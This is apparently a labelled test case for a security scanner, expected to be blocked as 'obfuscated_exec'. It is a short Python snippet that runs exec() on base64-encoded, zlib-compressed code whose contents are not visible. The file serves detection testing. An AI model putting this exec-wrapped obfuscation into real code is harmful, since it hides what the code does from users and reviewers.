# expect: BLOCKED category: obfuscated_exec variant-of: risky/obfuscated_exec/hex_compile.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwljMEKwyAQBe/5isVeFBpJtFkTaHvpl1jd0kKiQRtI/r5KeYdhYHgneMRl/cyUwQYPaQsZ3rS3FFz05CHHLTmSTTW4gfvH/Hl8KctXikuJOTOdUTghmYsajTYD+kKFPRIaHNSoe92pqY4J6amecXEGdl3tMUfr76wI7eSYaCp4LcQPPRQvIg==')))
